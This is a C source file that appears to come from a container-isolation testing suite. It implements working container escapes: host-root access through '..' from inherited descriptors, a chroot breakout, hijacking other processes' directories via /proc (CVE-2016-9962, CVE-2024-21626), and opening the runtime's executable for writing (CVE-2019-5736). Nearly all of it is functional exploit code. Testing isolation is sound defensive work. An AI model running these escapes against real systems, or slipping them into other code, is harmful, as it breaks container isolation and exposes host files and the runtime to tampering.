// SPDX-License-Identifier: Apache-2.0
/* Ways out by descriptors and directories that the runtime or its caller left open. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* From a directory outside of the container's root ".." leads to the host's root. */
static int read_above(int dir, const char *path)
{
	char up[PATH_MAX];
	int fd;

	for (int levels = 0; levels < 64; levels++) {
		int at = snprintf(up, sizeof(up), "./");

		for (int i = 0; i < levels; i++)
			at += snprintf(up + at, sizeof(up) - (size_t)at, "../");
		snprintf(up + at, sizeof(up) - (size_t)at, "%s", path + strspn(path, "/"));
		fd = openat(dir, up, O_RDONLY);
		if (fd >= 0)
			return attack_show(fd);
	}
	return -1;
}

static int walk_out_fd(char **argv)
{
	return read_above(atoi(argv[0]), argv[1]);
}

static int walk_out_cwd(char **argv)
{
	return read_above(AT_FDCWD, argv[0]);
}

/* Any descriptor from 3 on that was handed to the container. */
static int list_fds(char **argv)
{
	char link[64], name[256], all[4096] = "";
	int at = 0;

	(void)argv;
	for (int fd = 3; fd < 1024; fd++) {
		ssize_t n;

		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, name, sizeof(name) - 1);
		if (n <= 0)
			continue;
		name[n] = '\0';
		if ((size_t)at < sizeof(all) - sizeof(name) - 16)
			at += sprintf(all + at, "%s%d=%s", at ? " " : "", fd, name);
	}
	errno = 0;
	return at ? attack_proof("inherited", all) : -1;
}

static int read_fd(char **argv)
{
	return attack_show(atoi(argv[0]));
}

/* chroot(2) does not move the working directory, so ".." of a chroot below it walks to the real root of the namespace. */
static int chroot_out(char **argv)
{
	mkdir("/tmp/below", 0755);
	if (chroot("/tmp/below") < 0)
		return -1;
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	if (chroot(".") < 0)
		return -1;
	return read_above(AT_FDCWD, argv[0]);
}

/* Directories that another process has open, with the runtime of an exec in mind (CVE-2016-9962, CVE-2024-21626). */
static int try_process(const char *pid, const char *path)
{
	static const char *const kinds[] = { "cwd", "root", NULL };
	char name[PATH_MAX];
	struct dirent *entry;
	DIR *fds;
	int dir;

	for (int i = 0; kinds[i]; i++) {
		snprintf(name, sizeof(name), "/proc/%s/%s", pid, kinds[i]);
		dir = open(name, O_RDONLY | O_DIRECTORY);
		if (dir >= 0 && read_above(dir, path) == 0)
			return 0;
		close(dir);
	}
	snprintf(name, sizeof(name), "/proc/%s/fd", pid);
	fds = opendir(name);
	while (fds && (entry = readdir(fds))) {
		char file[PATH_MAX + 256];

		snprintf(file, sizeof(file), "%s/%s", name, entry->d_name);
		dir = entry->d_name[0] == '.' ? -1 : open(file, O_RDONLY | O_DIRECTORY | O_NONBLOCK);
		if (dir >= 0 && read_above(dir, path) == 0)
			return closedir(fds);
		if (dir >= 0)
			close(dir);
	}
	if (fds)
		closedir(fds);
	return -1;
}

/* The program of another process opened for writing (CVE-2019-5736): only opened. */
static int try_exe(const char *pid)
{
	char name[PATH_MAX];
	int fd;

	snprintf(name, sizeof(name), "/proc/%s/exe", pid);
	fd = open(name, O_PATH);
	if (fd < 0)
		return -1;
	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	return open(name, O_WRONLY) < 0 ? close(fd), -1 : attack_proof("opened", "the runtime's own file");
}

/* stalk SECONDS PATH: whoever comes into the container meanwhile. */
static int stalk(char **argv)
{
	time_t end = time(NULL) + atoi(argv[0]);

	while (time(NULL) < end) {
		DIR *all = opendir("/proc");
		struct dirent *entry;

		while (all && (entry = readdir(all)))
			if (atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid() &&
			    (try_process(entry->d_name, argv[1]) == 0 || try_exe(entry->d_name) == 0))
				return 0;
		closedir(all);
	}
	errno = 0;
	return -1;
}

const struct attack attack_fds[] = {
	{ "walk-out-fd", 2, walk_out_fd }, { "walk-out", 1, walk_out_cwd }, { "fds", 0, list_fds }, { "read-fd", 1, read_fd },
	{ "chroot-out", 1, chroot_out },   { "stalk", 2, stalk },	    { NULL, 0, NULL },
};
